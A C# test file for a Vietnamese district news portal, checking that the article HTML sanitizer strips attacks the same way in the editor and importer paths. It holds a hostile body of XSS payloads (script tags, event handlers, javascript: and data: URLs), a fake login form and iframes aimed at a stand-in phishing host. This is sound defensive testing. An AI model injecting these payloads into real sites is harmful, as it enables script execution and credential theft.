using System.Net;
using System.Text;
using System.Text.Json;
using AngleSharp.Html.Parser;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Q11Portal.Core.Data;
using Q11Portal.Core.Import;
using Q11Portal.Core.Users;
using Q11Portal.Testing;
using Q11Portal.Web.Tests.Infrastructure;

namespace Q11Portal.Web.Tests.Newsroom;

/// <summary>Must-show 3: hostile and benign bodies go through BOTH paths that store HTML — the admin editor (an HTTP
/// post to the controller) and the importer — and the same things survive.</summary>
public sealed class ArticleSanitizerPathTests
{
    public static TheoryData<DatabaseProvider> Providers => TestDatabase.Providers;

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    /// <summary>Everything here must disappear (the text around it may stay).</summary>
    public const string HostileBody =
        "<p>Đoạn mở đầu an toàn.</p>" +
        "<script>window.__pwned = 1; alert('script')</script>" +
        "<p onclick=\"window.__pwned = 2\" onmouseover=\"alert(2)\">Đoạn có trình xử lý sự kiện.</p>" +
        "<img src=\"/media/anh-onerror.png\" alt=\"Ảnh có onerror\" onerror=\"window.__pwned = 3\">" +
        "<a href=\"javascript:window.__pwned=4\">Liên kết javascript</a> " +
        "<a href=\" JaVaScRiPt:alert(5)\">Liên kết javascript viết hoa</a> " +
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Liên kết data</a>" +
        "<form action=\"https://lua-dao.example/dang-nhap\" method=\"post\"><input name=\"password\" type=\"password\"><button>Đăng nhập lại</button></form>" +
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff\">Lớp phủ giả mạo</div>" +
        "<p style=\"display:none\">Chữ bị giấu</p>" +
        "<p style=\"opacity:0\">Chữ trong suốt</p>" +
        "<p style=\"visibility:hidden\">Chữ ẩn</p>" +
        "<p style=\"position:absolute; top:-9999px\">Chữ đẩy ra ngoài</p>" +
        "<p style=\"background-image:url(javascript:alert(6))\">Nền</p>" +
        "<p class=\"visually-hidden\">Chữ giấu bằng lớp của trang</p><div class=\"site-header preview-banner\">Lớp giả giao diện</div>" +
        "<p class=\"MsoNormal\">Đoạn dán từ Word</p>" +
        "<iframe src=\"https://lua-dao.example/\"></iframe>" +
        "<iframe src=\"javascript:alert(7)\"></iframe>" +
        "<svg onload=\"window.__pwned = 8\"><circle r=\"5\"></circle></svg>" +
        "<object data=\"/x.swf\"></object><embed src=\"/x.swf\">" +
        "<style>body { display: none }</style>" +
        "<meta http-equiv=\"refresh\" content=\"0;url=https://lua-dao.example/\">" +
        "<base href=\"https://lua-dao.example/\">" +
        "<link rel=\"stylesheet\" href=\"https://lua-dao.example/x.css\">" +
        "<p>Đoạn kết an toàn.</p>";

    /// <summary>The newsroom's structure: all of it must survive.</summary>
    public const string BenignBody =
        "<h2>Kết quả nổi bật</h2><h3>Công tác tuyên truyền</h3>" +
        "<p>Văn bản <strong>đậm</strong>, <em>nghiêng</em> và <a href=\"https://quan11.hochiminhcity.gov.vn/\">liên kết</a>.</p>" +
        "<figure class=\"image\"><img src=\"/media/hoi-nghi-800.jpg\" alt=\"Quang cảnh hội nghị\" width=\"800\" height=\"450\"><figcaption>Quang cảnh hội nghị sơ kết</figcaption></figure>" +
        "<table><thead><tr><th>Chỉ tiêu</th><th>Kết quả</th></tr></thead><tbody><tr><td>Tập thể được khen thưởng</td><td style=\"text-align: right\">70</td></tr></tbody></table>" +
        "<ul><li>Mục một</li><li>Mục hai</li></ul><ol><li>Bước một</li></ol>" +
        "<blockquote><p>Học tập và làm theo tư tưởng, đạo đức, phong cách Hồ Chí Minh.</p></blockquote>" +
        "<p><iframe src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" width=\"560\" height=\"315\" allowfullscreen></iframe></p>";

    [Theory]
    [MemberData(nameof(Providers))]
    public async Task HostileAndBenignBodies_ThroughTheEditorAndTheImporter_KeepTheStructure_DropTheAttacks(DatabaseProvider provider)
    {
        await using var app = await PortalAppFactory.CreateAsync(provider);
        var category = await NewsroomSite.AddCategoryAsync(app, "Tin tức");
        var editor = await Staff.SignedInAsync(app, Roles.Editor);

        var hostileId = await NewsroomSite.CreateAsync(editor, "Bài độc hại qua trình soạn thảo", HostileBody, category);
        var benignId = await NewsroomSite.CreateAsync(editor, "Bài lành qua trình soạn thảo", BenignBody, category);

        var json = JsonSerializer.Serialize(new[]
        {
            new { id = "hostile", title = "Bài độc hại qua nhập liệu", category = "Tin tức", publishedAt = "2026-11-01T08:00:00+07:00", contentHtml = HostileBody },
            new { id = "benign", title = "Bài lành qua nhập liệu", category = "Tin tức", publishedAt = "2026-11-01T09:00:00+07:00", contentHtml = BenignBody },
        });
        await using (var scope = app.Services.CreateAsyncScope())
        {
            await scope.ServiceProvider.GetRequiredService<ArticleImporter>().ImportAsync(new MemoryStream(Encoding.UTF8.GetBytes(json)), null, Ct, "sanitizer-test.json");
        }

        await using var read = app.Services.CreateAsyncScope();
        var db = read.ServiceProvider.GetRequiredService<PortalDbContext>();
        var bodies = await db.Articles.AsNoTracking().ToDictionaryAsync(a => a.Title, a => a.BodyHtml, Ct);
        var editorHostile = bodies["Bài độc hại qua trình soạn thảo"];
        var importHostile = bodies["Bài độc hại qua nhập liệu"];
        var editorBenign = bodies["Bài lành qua trình soạn thảo"];
        var importBenign = bodies["Bài lành qua nhập liệu"];

        // One policy: both paths store the same thing.
        Assert.Equal(editorHostile, importHostile);
        Assert.Equal(editorBenign, importBenign);

        foreach (var body in new[] { editorHostile, importHostile })
        {
            var document = new HtmlParser().ParseDocument("<body>" + body + "</body>");
            Assert.Empty(document.QuerySelectorAll("script, form, input, button, svg, object, embed, style, meta, base, link"));
            Assert.Empty(document.QuerySelectorAll("iframe"));
            var attributes = document.Body!.QuerySelectorAll("*").SelectMany(e => e.Attributes).ToList();
            Assert.DoesNotContain(attributes, a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
            Assert.DoesNotContain(attributes, a => a.Value.Contains("javascript", StringComparison.OrdinalIgnoreCase));
            Assert.DoesNotContain(attributes, a => a.Name is "href" or "src" && a.Value.StartsWith("data:", StringComparison.OrdinalIgnoreCase));
            var styles = string.Join(";", attributes.Where(a => a.Name == "style").Select(a => a.Value.ToLowerInvariant()));
            foreach (var hiding in new[] { "position", "display", "opacity", "visibility", "z-index", "top", "background" })
            {
                Assert.DoesNotContain(hiding, styles);
            }

            Assert.DoesNotContain("__pwned", body);
            Assert.DoesNotContain(attributes, a => a.Name == "class");
            Assert.Contains("<p>Đoạn dán từ Word</p>", body);
            Assert.Contains("<p>Đoạn mở đầu an toàn.</p>", body);
            Assert.Contains("<p>Đoạn kết an toàn.</p>", body);
            Assert.Contains("alt=\"Ảnh có onerror\"", body);
        }

        foreach (var body in new[] { editorBenign, importBenign })
        {
            var document = new HtmlParser().ParseDocument("<body>" + body + "</body>");
            Assert.NotNull(document.QuerySelector("h2"));
            Assert.NotNull(document.QuerySelector("h3"));
            Assert.Equal("Quang cảnh hội nghị sơ kết", document.QuerySelector("figure.image > figcaption")?.TextContent);
            Assert.Equal("Quang cảnh hội nghị", document.QuerySelector("figure > img")?.GetAttribute("alt"));
            Assert.Equal(2, document.QuerySelectorAll("table th").Length);
            Assert.Equal("70", document.QuerySelector("table td[style]")?.TextContent);
            Assert.Equal(3, document.QuerySelectorAll("ul li, ol li").Length);
            Assert.NotNull(document.QuerySelector("blockquote > p"));
            Assert.Equal("https://quan11.hochiminhcity.gov.vn/", document.QuerySelector("a")?.GetAttribute("href"));
            Assert.Equal("noopener noreferrer", document.QuerySelector("a")?.GetAttribute("rel"));
            Assert.Equal("https://www.youtube.com/embed/dQw4w9WgXcQ", document.QuerySelector("iframe")?.GetAttribute("src"));
            Assert.NotNull(document.QuerySelector("strong"));
            Assert.NotNull(document.QuerySelector("em"));
        }

        // The editor path really went through the controller (ids are the editor's articles).
        Assert.Equal(editorHostile, await db.Articles.Where(a => a.Id == hostileId).Select(a => a.BodyHtml).SingleAsync(Ct));
        Assert.Equal(editorBenign, await db.Articles.Where(a => a.Id == benignId).Select(a => a.BodyHtml).SingleAsync(Ct));
        Assert.Equal(HttpStatusCode.OK, (await editor.GetAsync($"/admin/articles/{hostileId}/preview", Ct)).StatusCode);
    }
}
